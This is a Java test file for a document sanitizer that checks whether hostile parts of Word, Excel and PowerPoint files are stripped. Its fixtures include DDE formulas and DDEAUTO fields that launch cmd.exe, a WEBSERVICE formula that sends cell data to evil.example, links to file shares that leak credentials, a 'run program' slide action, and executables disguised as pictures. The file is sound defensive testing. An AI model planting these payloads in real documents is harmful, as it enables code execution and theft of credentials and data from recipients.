package jp.kakehashi.sanitizer;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import jp.kakehashi.sanitizer.specimens.Zips;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xslf.usermodel.XSLFTextRun;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFHyperlink;
import org.apache.poi.xwpf.usermodel.XWPFHyperlinkRun;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * ISSUE 28: fields and formulas are found by the part's content type, wherever the package keeps
 * it, and formulas that fetch from outside go as they do from ODF. Each specimen opens in Office
 * as it is: the relationships and [Content_Types].xml say where its parts are.
 */
class OoxmlPartsTest {
    @TempDir
    Path dir;

    final Sanitizer sanitizer = Sanitizer.create(SanitizerConfig.defaults());
    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

    @Test
    void aSheetStoredOutsideTheWorksheetsFolderLosesItsDdeAndFetchingFormulas() throws Exception {
        Map<String, byte[]> p = Zips.read(workbook());
        byte[] sheet = p.remove("xl/worksheets/sheet1.xml");
        String original = new String(sheet, StandardCharsets.UTF_8);
        assertThat(original).contains("<sheetData/>");
        String xml = original.replace(
                "<sheetData/>",
                "<sheetData><row r=\"1\">"
                        + "<c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"
                        + "<c r=\"B1\" t=\"str\"><f>WEBSERVICE(\"https://evil.example/x?\"&amp;C1)</f><v>a</v></c>"
                        + "<c r=\"C1\" t=\"str\"><f>HYPERLINK(\"\\\\evil.example\\share\\x.docx\",\"資料\")</f><v>資料</v></c>"
                        + "<c r=\"D1\"><f>SUM(1,2)</f><v>3</v></c>"
                        + "<c r=\"E1\" t=\"str\"><f>HYPERLINK(\"https://www.city.example.lg.jp/\",\"市\")</f><v>市</v></c>"
                        + "</row></sheetData>");
        p.put("xl/data/s1.xml", xml.getBytes(StandardCharsets.UTF_8));
        Zips.edit(p, "xl/_rels/workbook.xml.rels", r -> r.replace("worksheets/sheet1.xml", "data/s1.xml"));
        Zips.edit(p, "[Content_Types].xml", t -> t.replace("/xl/worksheets/sheet1.xml", "/xl/data/s1.xml"));

        DisarmResult.Disarmed d = disarm("集計.xlsx", Zips.write(p));
        String out =
                new String(Zips.read(Files.readAllBytes(d.output())).get("xl/data/s1.xml"), StandardCharsets.UTF_8);
        assertThat(out)
                .doesNotContain("cmd|")
                .doesNotContain("WEBSERVICE")
                .doesNotContain("evil.example")
                .contains("SUM(1,2)")
                .as("an ordinary web link stays a link")
                .contains("www.city.example.lg.jp")
                .as("the values the formulas last showed stay")
                .contains("<v>資料</v>");
        assertThat(d.removals()).extracting(Removal::kind).contains("dde", "external-reference");
    }

    @Test
    void aMainDocumentStoredOutsideTheWordFolderLosesItsDdeField() throws Exception {
        Map<String, byte[]> p = Zips.read(document());
        byte[] main = p.remove("word/document.xml");
        String xml = new String(main, StandardCharsets.UTF_8)
                .replace(
                        "<w:body>",
                        "<w:body><w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
                                + "<w:r><w:t>表示</w:t></w:r></w:fldSimple></w:p>");
        p.put("content/main.xml", xml.getBytes(StandardCharsets.UTF_8));
        if (p.containsKey("word/_rels/document.xml.rels")) {
            p.put("content/_rels/main.xml.rels", p.remove("word/_rels/document.xml.rels"));
            Zips.edit(p, "content/_rels/main.xml.rels", r -> r.replace("Target=\"", "Target=\"../word/"));
        }
        Zips.edit(p, "_rels/.rels", r -> r.replace("word/document.xml", "content/main.xml"));
        Zips.edit(p, "[Content_Types].xml", t -> t.replace("/word/document.xml", "/content/main.xml"));

        DisarmResult.Disarmed d = disarm("通知.docx", Zips.write(p));
        String out =
                new String(Zips.read(Files.readAllBytes(d.output())).get("content/main.xml"), StandardCharsets.UTF_8);
        assertThat(out).doesNotContain("DDEAUTO").contains("表示");
        assertThat(d.removals()).extracting(Removal::kind).contains("dde");
    }

    /**
     * One link rule for every format ({@link Links}): a hyperlink to a file share or a {@code file:}
     * URL (a click sends the person's Windows credentials to that server) and a slide's "run
     * program" action lose their link and keep their text; a web link stays a link. The rebuilt
     * files open in POI with no hyperlink pointing at a missing relationship.
     */
    @Test
    void hyperlinksToFileSharesOrFileUrlsLoseTheirLinkAndKeepTheirTextInEveryOfficeFormat() throws Exception {
        byte[] docx;
        try (XWPFDocument doc = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XWPFParagraph p = doc.createParagraph();
            p.createHyperlinkRun("file://evil.example/share/placeholder.docx").setText("共有の資料");
            p.createHyperlinkRun("file:///C:/Windows/System32/calc.exe").setText("電卓");
            p.createHyperlinkRun("https://www.city.example.lg.jp/").setText("市のサイト");
            doc.write(out);
            // Word writes a link to a share as a bare UNC path, which POI will not create.
            docx = Zips.write(edited(
                    Zips.read(out.toByteArray()),
                    "word/_rels/document.xml.rels",
                    r -> r.replace("file://evil.example/share/placeholder.docx", "\\\\evil.example\\share\\資料.docx")));
        }
        DisarmResult.Disarmed word = disarm("案内.docx", docx);
        Map<String, byte[]> parts = Zips.read(Files.readAllBytes(word.output()));
        String rels = new String(parts.get("word/_rels/document.xml.rels"), StandardCharsets.UTF_8);
        assertThat(rels)
                .doesNotContain("evil.example")
                .doesNotContain("calc.exe")
                .contains("www.city.example.lg.jp");
        try (XWPFDocument reopened = new XWPFDocument(Files.newInputStream(word.output()))) {
            String text = reopened.getParagraphs().get(0).getText();
            assertThat(text).contains("共有の資料", "電卓", "市のサイト");
            assertThat(reopened.getParagraphs().get(0).getRuns().stream()
                            .filter(r -> r instanceof XWPFHyperlinkRun)
                            .map(r -> ((XWPFHyperlinkRun) r).getHyperlink(reopened))
                            .filter(java.util.Objects::nonNull)
                            .map(XWPFHyperlink::getURL)
                            .toList())
                    .containsExactly("https://www.city.example.lg.jp/");
        }
        assertThat(word.removals()).anySatisfy(r -> {
            assertThat(r.kind()).isEqualTo("link");
            assertThat(r.detail()).contains("hyperlink").contains("evil.example");
        });
        assertThat(Receipts.of(word.removals(), Receipts.Reader.RECIPIENT).ja())
                .contains("ファイル共有や PC 内のファイルを開くリンクを外しました");

        byte[] xlsx;
        try (XSSFWorkbook wb = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var cell = wb.createSheet("一覧").createRow(0).createCell(0);
            cell.setCellValue("共有フォルダ");
            var link = wb.getCreationHelper().createHyperlink(HyperlinkType.FILE);
            link.setAddress("file://evil.example/share/list.xlsx");
            cell.setHyperlink(link);
            wb.write(out);
            xlsx = out.toByteArray();
        }
        DisarmResult.Disarmed sheet = disarm("一覧.xlsx", xlsx);
        try (XSSFWorkbook reopened = new XSSFWorkbook(Files.newInputStream(sheet.output()))) {
            var cell = reopened.getSheetAt(0).getRow(0).getCell(0);
            assertThat(cell.getStringCellValue()).isEqualTo("共有フォルダ");
            assertThat(
                            cell.getHyperlink() == null
                                    ? ""
                                    : String.valueOf(cell.getHyperlink().getAddress()))
                    .doesNotContain("evil.example");
        }

        byte[] pptx;
        try (XMLSlideShow show = new XMLSlideShow();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XSLFTextBox box = show.createSlide().createTextBox();
            XSLFTextRun run = box.addNewTextParagraph().addNewTextRun();
            run.setText("クリックしてください");
            run.createHyperlink().setAddress("file:///C:/Windows/System32/calc.exe");
            show.write(out);
            pptx = out.toByteArray();
        }
        pptx = Zips.write(edited(
                Zips.read(pptx),
                "ppt/slides/slide1.xml",
                x -> x.replace("<a:hlinkClick ", "<a:hlinkClick action=\"ppaction://program\" ")));
        DisarmResult.Disarmed slides = disarm("説明.pptx", pptx);
        Map<String, byte[]> out = Zips.read(Files.readAllBytes(slides.output()));
        assertThat(new String(out.get("ppt/slides/_rels/slide1.xml.rels"), StandardCharsets.UTF_8))
                .doesNotContain("calc.exe");
        assertThat(new String(out.get("ppt/slides/slide1.xml"), StandardCharsets.UTF_8))
                .contains("クリックしてください")
                .doesNotContain("r:id=\"" + relId(pptx) + "\"");
        try (XMLSlideShow reopened = new XMLSlideShow(Files.newInputStream(slides.output()))) {
            assertThat(reopened.getSlides()).hasSize(1);
        }
    }

    /**
     * A VBA project stored under a picture's name (reached only by the vbaProject relationship that
     * goes), a part nothing refers to, and a "picture" that holds a program go; the real picture
     * stays, and the receipt says why in words.
     */
    @Test
    void partsNothingNeedsAndPicturesThatAreNotPicturesGo() throws Exception {
        byte[] docx;
        try (XWPFDocument doc = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.createParagraph()
                    .createRun()
                    .addPicture(
                            new java.io.ByteArrayInputStream(png()),
                            org.apache.poi.xwpf.usermodel.Document.PICTURE_TYPE_PNG,
                            "地図.png",
                            100_000,
                            100_000);
            doc.write(out);
            docx = out.toByteArray();
        }
        Map<String, byte[]> p = Zips.read(docx);
        String picture = p.keySet().stream()
                .filter(n -> n.startsWith("word/media/"))
                .findFirst()
                .orElseThrow();
        byte[] ole = new byte[512];
        System.arraycopy(
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1},
                0,
                ole,
                0,
                8);
        p.put("word/media/image9.png", ole);
        Zips.addRelationship(
                p,
                "word/_rels/document.xml.rels",
                "rId90",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "media/image9.png",
                false);
        p.put("word/stray.xml", "<stray/>".getBytes(StandardCharsets.UTF_8));
        Zips.addOverride(p, "word/stray.xml", "application/xml");
        p.put(
                "word/media/fake.png",
                "MZ\u0090\u0000 This program cannot be run in DOS mode".getBytes(StandardCharsets.ISO_8859_1));
        Zips.addRelationship(
                p,
                "word/_rels/document.xml.rels",
                "rId91",
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
                "media/fake.png",
                false);

        DisarmResult.Disarmed d = disarm("地図.docx", Zips.write(p));
        Map<String, byte[]> out = Zips.read(Files.readAllBytes(d.output()));
        assertThat(out.keySet())
                .contains(picture)
                .doesNotContain("word/media/image9.png", "word/stray.xml", "word/media/fake.png");
        assertThat(d.removals()).extracting(Removal::kind).contains("hidden-part");
        assertThat(Receipts.of(d.removals(), Receipts.Reader.RECIPIENT).ja()).contains("画像の名前で保存された画像でないデータを取り除きました");
        try (XWPFDocument reopened = new XWPFDocument(Files.newInputStream(d.output()))) {
            assertThat(reopened.getAllPictures()).hasSize(1);
        }
    }

    @Test
    void theVerifierRefusesAPartNothingNeedsAndAPictureThatIsNotOne() throws Exception {
        Map<String, byte[]> p = Zips.read(document());
        p.put("word/stray.xml", "<stray/>".getBytes(StandardCharsets.UTF_8));
        Path stray = dir.resolve("stray.docx");
        Files.write(stray, Zips.write(p));
        assertThat(new Verifier(1000).problem(stray, DOCX))
                .hasValueSatisfying(problem -> assertThat(problem).contains("nothing in the package refers to"));

        Map<String, byte[]> q = Zips.read(document());
        q.put("word/media/fake.png", "PK\u0003\u0004".getBytes(StandardCharsets.ISO_8859_1));
        Zips.addRelationship(
                q,
                "word/_rels/document.xml.rels",
                "rId91",
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
                "media/fake.png",
                false);
        Path fake = dir.resolve("fake.docx");
        Files.write(fake, Zips.write(q));
        assertThat(new Verifier(1000).problem(fake, DOCX))
                .hasValueSatisfying(problem -> assertThat(problem).contains("claims to be a picture"));
    }

    private static byte[] png() throws java.io.IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(
                new java.awt.image.BufferedImage(4, 4, java.awt.image.BufferedImage.TYPE_INT_RGB), "png", out);
        return out.toByteArray();
    }

    @Test
    void theVerifierRefusesAHyperlinkToAFileShare() throws Exception {
        Map<String, byte[]> p = Zips.read(document());
        Zips.addRelationship(
                p, "word/_rels/document.xml.rels", "rId99", Ooxml.HYPERLINK, "\\\\evil.example\\share", true);
        Path file = dir.resolve("raw.docx");
        Files.write(file, Zips.write(p));
        assertThat(new Verifier(1000).problem(file, DOCX))
                .hasValueSatisfying(problem -> assertThat(problem).contains("hyperlink"));
    }

    private static Map<String, byte[]> edited(
            Map<String, byte[]> parts, String part, java.util.function.UnaryOperator<String> change) {
        Zips.edit(parts, part, change);
        return parts;
    }

    private static String relId(byte[] pptx) {
        String rels = new String(Zips.read(pptx).get("ppt/slides/_rels/slide1.xml.rels"), StandardCharsets.UTF_8);
        java.util.regex.Matcher m = java.util.regex.Pattern.compile(
                        "Id=\"(rId\\d+)\"[^>]*calc\\.exe|calc\\.exe[^>]*Id=\"(rId\\d+)\"")
                .matcher(rels);
        assertThat(m.find()).isTrue();
        return m.group(1) != null ? m.group(1) : m.group(2);
    }

    private DisarmResult.Disarmed disarm(String name, byte[] content) throws Exception {
        Path in = dir.resolve(name);
        Files.write(in, content);
        DisarmResult r = sanitizer.disarm(in, sanitizer.detect(in, name), dir);
        assertThat(r).isInstanceOf(DisarmResult.Disarmed.class);
        return (DisarmResult.Disarmed) r;
    }

    private static byte[] workbook() throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            wb.createSheet("集計");
            wb.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] document() throws Exception {
        try (XWPFDocument doc = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.createParagraph().createRun().setText("本文");
            doc.write(out);
            return out.toByteArray();
        }
    }
}
